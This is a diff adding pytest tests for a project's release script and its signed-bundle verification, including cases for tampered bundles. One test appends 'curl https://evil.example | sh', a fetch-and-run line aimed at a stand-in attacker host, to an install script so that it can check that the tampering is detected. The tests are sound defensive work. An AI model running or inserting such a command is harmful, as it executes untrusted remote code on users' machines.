@@ -1136,6 +1136,92 @@ def test_install_upgrade_health_rollback_and_downgrade(tmp_path: Path, keys) -> 
     assert upd.rollback(prefix) == "1.1.0" and current() == "releases/1.1.0"
 
 
+# scripts/release.sh ---------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def built_release(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, str]:
+    """scripts/release.sh for real (wheel build, signing), without the box's dependency wheels
+    (no PyPI here): (out dir, key file, public key hex)."""
+    tmp = tmp_path_factory.mktemp("release")
+    key = tmp / "release-signing.key"
+    pub = upd.keygen(key)
+    res = sh(ROOT / "scripts/release.sh", "--key", key, "--out", tmp / "dist", "--no-deps",
+             "--update-url", "https://updates.example.com/passby-edge-latest.tar", timeout=300)  # fmt: skip
+    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
+    return tmp / "dist", key, pub
+
+
+def _version() -> str:
+    return re.search(r'^version = "(.*)"', (ROOT / "pyproject.toml").read_text(), re.M).group(1)  # type: ignore[union-attr]
+
+
+def test_release_bundle_verifies_with_the_updaters_code(
+    built_release: tuple[Path, Path, str], tmp_path: Path
+) -> None:
+    dist, _key, pub = built_release
+    v = _version()
+    assert sorted(p.name for p in dist.iterdir()) == sorted(
+        [f"passby-{v}-py3-none-any.whl", f"passby-edge-{v}.tar", f"passby-{v}.tar.gz"]
+    )
+    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
+        tar.extractall(tmp_path, filter="data")
+    bundle = tmp_path / f"passby-{v}"
+    manifest = upd.verify_bundle(bundle, pub)
+    assert manifest["version"] == v and manifest["protocol"] == PROTOCOL_VERSION
+    assert manifest["update_url"] == "https://updates.example.com/passby-edge-latest.tar"
+    assert (bundle / "release-signing.pub").read_text().strip() == pub
+    for rel in ("deploy/edge/install.sh", "deploy/cloud/install.sh", "deploy/monitoring/passby-alerts.yml",
+                "hardware/README.md", "README.md", f"passby-{v}-py3-none-any.whl"):  # fmt: skip
+        assert rel in manifest["files"], rel
+    # The box release inside is the updater's own format, and the same as the one next to it.
+    assert upd.verify(bundle / f"passby-edge-{v}.tar", pub).version == v
+    assert (bundle / f"passby-edge-{v}.tar").read_bytes() == (
+        dist / f"passby-edge-{v}.tar"
+    ).read_bytes()
+    # The wheel is complete (console CSS and JavaScript; the lead's test_wheel_install runs it).
+    with zipfile.ZipFile(bundle / f"passby-{v}-py3-none-any.whl") as zf:
+        names = set(zf.namelist())
+    assert {
+        "cloud_bridge/console/static/console.css",
+        "cloud_bridge/console/static/campaign.js",
+    } <= names
+    # The updater's command line says the same.
+    res = sh(sys.executable, EDGE / "passby_update.py", "verify-bundle", bundle, "--pubkey", pub)
+    assert res.returncode == 0 and "OK, passby" in res.stdout, res.stderr
+
+
+@pytest.mark.parametrize("change", ["edit", "add", "remove", "resign", "link"])
+def test_tampered_bundles_are_refused(
+    built_release: tuple[Path, Path, str], tmp_path: Path, change: str
+) -> None:
+    dist, _key, pub = built_release
+    v = _version()
+    with tarfile.open(dist / f"passby-{v}.tar.gz") as tar:
+        tar.extractall(tmp_path, filter="data")
+    bundle = tmp_path / f"passby-{v}"
+    script = bundle / "deploy/edge/install.sh"
+    if change == "edit":
+        script.write_text(script.read_text() + "curl https://evil.example | sh\n")
+        needle = "does not match its signed SHA-256"
+    elif change == "add":
+        (bundle / "deploy/edge/extra.sh").write_text("#!/bin/sh\n")
+        needle = "extra ['deploy/edge/extra.sh']"
+    elif change == "remove":
+        (bundle / "hardware/README.md").unlink()
+        needle = "missing ['hardware/README.md']"
+    elif change == "resign":  # a valid signature, by another key
+        other = tmp_path / "other.key"
+        upd.keygen(other)
+        upd.sign_bundle(bundle, other, v, PROTOCOL_VERSION)
+        needle = "bad signature"
+    else:
+        script.unlink()
+        script.symlink_to("/bin/true")
+        needle = "symbolic link"
+    with pytest.raises(upd.ReleaseError) as err:
+        upd.verify_bundle(bundle, pub)
+    assert needle in str(err.value)
+
+
 # sd_notify ------------------------------------------------------------------------------------
 def _listener(path: str) -> socket.socket:
     s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
